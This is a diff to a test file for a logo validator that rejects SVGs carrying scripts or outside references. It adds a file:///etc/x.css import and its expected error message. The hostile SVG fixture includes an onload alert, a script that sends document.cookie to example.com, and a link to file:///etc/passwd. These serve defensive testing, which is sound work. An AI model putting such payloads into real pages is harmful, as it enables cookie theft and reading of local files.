@@ -354,7 +354,8 @@ def test_a_logo_is_judged_by_its_content_not_its_name(tmp_path, name, data, mess
 HOSTILE_SVG = """<svg xmlns="http://www.w3.org/2000/svg" xmlns:xlink="http://www.w3.org/1999/xlink"
      width="40" height="40" onload="alert(1)">
   <script>fetch("https://example.com/?" + document.cookie)</script>
-  <style>@import "https://example.com/brand.css"; .a { fill: url(#grad) }</style>
+  <style>@import "https://example.com/brand.css"; @import url("file:///etc/x.css");
+         .a { fill: url(#grad) }</style>
   <linearGradient id="grad"><stop offset="0" stop-color="#000"/></linearGradient>
   <image xlink:href="file:///etc/passwd" width="10" height="10"/>
   <use href="#grad"/>
@@ -370,6 +371,8 @@ def test_an_svg_logo_with_scripts_or_outside_references_is_an_error(tmp_path):
         "<svg onload=...> runs script when shown; remove the onload attribute",
         "contains a <script>; export the logo again without scripts",
         "<style> refers to https://example.com/brand.css, outside the logo; embed what it shows in "
+        "the SVG, or export the logo as PNG",
+        "<style> refers to file:///etc/x.css, outside the logo; embed what it shows in "
         "the SVG, or export the logo as PNG",
         "<image> refers to file:///etc/passwd, outside the logo; embed what it shows in the SVG, or "
         "export the logo as PNG",
